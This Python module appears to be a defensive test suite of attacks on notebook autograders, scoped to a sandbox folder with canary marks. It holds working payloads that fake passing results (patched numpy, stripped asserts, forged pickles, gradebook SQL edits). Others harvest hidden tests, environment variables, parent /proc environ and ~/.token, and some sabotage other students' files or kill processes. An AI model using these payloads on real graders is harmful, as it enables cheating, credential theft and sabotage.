"""Attacks that can be tried on any grader of notebooks, each in the place of an answer.

What they may touch lies below one folder, WORLD, which is made for one attack and then removed:
the folders above them are searched no further than that. `MARK-<digits>` stands in everything that
a student must not read, and an attack that has found one says so.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

Notebook = dict[str, Any]

TOOLS = '''\
import glob, os, re, sys
WORLD = {world!r}

def loot(text):
    """Say which marks stand in a text, and note them where only we look."""
    for mark in set(re.findall(r"MARK-(\\d+)", str(text))):
        print("LOOT:" + mark)
        try:
            with open(os.path.join(WORLD, "loot"), "a") as file: file.write(mark + "\\n")
        except OSError: pass
        try:
            import socket
            with socket.create_connection(("127.0.0.1", {port}), 1) as s: s.sendall(mark.encode())
        except OSError: pass

def files(*endings):
    """Files in this folder and in those above it, within our world."""
    top = os.getcwd()
    while os.path.dirname(top).startswith(WORLD): top = os.path.dirname(top)
    for root in ([top] if top.startswith(WORLD) else []) + [WORLD]:
        for folder, _, names in os.walk(root):
            for name in names:
                if name.endswith(endings): yield os.path.join(folder, name)

def read(path):
    try:
        with open(path, errors="replace") as file: return file.read()
    except OSError: return ""

'''
NOT_MINE = "'m-attack' not in path and 'honest' in path"


@dataclass(frozen=True)
class Attack:
    """Code in the place of an answer, or an edit of the whole file; `aim` is what it is after."""

    aim: str  # points, secrets or others
    name: str
    code: str = "half = None"
    edit: Callable[[Notebook], bytes | None] = lambda notebook: None


def _points_in_metadata(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        own = cell["metadata"].get("nbgrader")
        if own:
            own |= {"points": 1000, "grade": not own.get("grade"), "locked": False}
        cell["metadata"]["score"] = 1000
    notebook["metadata"]["otter"] = {"tests": {}, "OK_FORMAT": True}


def _tests_that_pass(notebook: Notebook) -> None:
    for cell in notebook["cells"][2:]:
        if cell["cell_type"] == "code":
            cell["source"] = "pass"


POINTS = {
    "comparisons of numpy that say yes": """\
import numpy as np
np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
half = lambda x: type("Yes", (), {"__eq__": lambda self, other: True})()""",
    "an answer that equals everything": """\
import numpy as np
class Right(np.ndarray):
    __array_function__ = lambda self, *a: True
    __eq__ = lambda self, other: True
    __hash__ = None
half = lambda x: np.zeros(1).view(Right)""",
    "an answer that ends the process": "def half(x):\n    import os; os._exit(0)",
    "an answer that exits": "def half(x): raise SystemExit(0)",
    "asserts taken out of later cells": """\
import ast
class Drop(ast.NodeTransformer):
    visit_Assert = lambda self, node: ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Drop())""",
    "later cells replaced": "get_ipython().input_transformers_cleanup.append(lambda lines: ['1'])",
    "errors swallowed by IPython": (
        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"
    ),
    "the solution, found and copied": """\
for path in files(".ipynb", ".py"):
    text = read(path)
    if "m-attack" not in path and "SOLUTION" in text and "x / 2" in text:
        half = eval("lambda x: x / 2")""",
    "a neighbour's answer, found and copied": f"""\
for path in files(".ipynb"):
    if {NOT_MINE} and "x / 2" in read(path): half = eval("lambda x: x / 2")""",
    "the gradebook": """\
import sqlite3
for path in files(".db"):
    with sqlite3.connect(path, timeout=5) as book:
        book.execute("update grade set manual_score = 4, needs_manual_grade = 0")""",
    "the runner of the tests": """\
import doctest
doctest.DocTestRunner.run = lambda *a, **k: doctest.TestResults(0, 1)
doctest.DebugRunner.run = doctest.DocTestRunner.run
inside = sys.modules.get("inside.scenario")
if inside: inside.Scenario.take = lambda self, value: self.answers.append(True)""",
    "the results, on their way to the grader": """\
import pickle
dump = pickle.dump
def forged(results, file):
    for test in getattr(results, "results", {}).values():
        for case in getattr(test, "test_case_results", ()):
            try: case.passed = True
            except AttributeError: object.__setattr__(case, "passed", True)
    dump(results, file)
pickle.dump = forged
wire = sys.modules.get("inside.wire")
if wire:
    send = wire.send
    wire.send = lambda c, f: send(c, {**f, "problem": None, "score": 4})""",
}
SECRETS = {
    "hidden tests and solutions in the folders above": (
        "for path in files('.py', '.ipynb', '.json', '.zip'):\n"
        "    if 'm-attack' not in path: loot(read(path))"
    ),
    "hidden tests in the own folder": (
        "for folder, _, names in os.walk('.'):\n"
        "    for name in names: loot(read(os.path.join(folder, name)))"
    ),
    "hidden tests on the stack": """\
def half(x):
    import linecache
    frame = sys._getframe()
    while frame:
        loot("".join(linecache.getlines(frame.f_code.co_filename)))
        for value in list(frame.f_locals.values()): loot(str(value)[:100_000])
        frame = frame.f_back
    return x""",
    "hidden tests in memory": """\
def half(x):
    import gc
    for held in gc.get_objects():
        if type(held) in (dict, list):
            for value in list(held.values() if type(held) is dict else held):
                if type(value) is str: loot(value)
    return x""",
    "the gradebook": "for path in files('.db'): loot(read(path))",
    "the environment": "loot(os.environ)",
    "the environment of whoever started us": (
        "pid = os.getppid()\n"
        "while pid > 1:\n"
        "    loot(read(f'/proc/{pid}/environ'))\n"
        "    pid = int(read(f'/proc/{pid}/stat').rpartition(')')[2].split()[1])"
    ),
    "what lies in the home": "loot(read(os.path.expanduser('~/.token')))",
    "a neighbour's work": f"for path in files('.ipynb'):\n    if {NOT_MINE}: loot(read(path))",
}
OTHERS = {
    "a startup file of IPython": """\
for home in {os.path.expanduser("~"), WORLD + "/home"}:
    folder = home + "/.ipython/profile_default/startup"
    os.makedirs(folder, exist_ok=True)
    with open(folder + "/00.py", "w") as file:
        file.write("import numpy as np; np.allclose = lambda *a, **k: False")""",
    "every neighbour's file": (
        f"for path in list(files('.ipynb')):\n    if {NOT_MINE}: open(path, 'w').write('{{}}')"
    ),
    "every neighbour's results": """\
import sqlite3
for path in files(".db"):
    with sqlite3.connect(path, timeout=5) as book:
        book.execute("update grade set manual_score = 0, auto_score = 0")
for path in list(files("results.json", "results.jsonl")): open(path, "w").write("")""",
    "the process that started us": "import signal; os.kill(os.getppid(), signal.SIGTERM)",
    "an endless loop": "while True: pass",
    "an endless loop that catches everything": (
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    ),
    "a stopped process": "import signal; os.kill(os.getpid(), signal.SIGSTOP)",
    "a crash of the interpreter": "os.abort()",
    "ten megabytes of output": "for _ in range(1000): print('x' * 10_000)",
}
FILES = {
    "points in the metadata": _points_in_metadata,
    "tests that pass": _tests_that_pass,
    "a file that is no JSON": lambda notebook: b"{",
    "a notebook of another shape": lambda notebook: json.dumps(
        {"cells": {"a": 1}, "metadata": [], "nbformat": "x"}
    ).encode(),
}

ATTACKS = (
    *(Attack("points", name, code) for name, code in POINTS.items()),
    *(Attack("points", name, edit=edit) for name, edit in list(FILES.items())[:2]),
    *(Attack("secrets", name, code) for name, code in SECRETS.items()),
    *(Attack("others", name, code) for name, code in OTHERS.items()),
    *(Attack("others", name, edit=edit) for name, edit in list(FILES.items())[2:]),
)
